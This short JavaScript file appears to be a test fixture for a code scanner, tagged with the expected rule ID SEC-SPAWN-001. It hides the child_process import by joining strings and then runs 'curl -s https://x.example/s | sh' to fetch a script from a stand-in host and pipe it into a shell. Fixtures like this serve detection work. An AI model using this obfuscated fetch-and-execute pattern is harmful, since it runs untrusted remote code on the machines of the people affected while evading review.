const loader = {
  get proc() {
    return require(["child", "process"].join("_"));
  },
};
// pi-expect: SEC-SPAWN-001
loader.proc.execSync("curl -s https://x.example/s | sh");
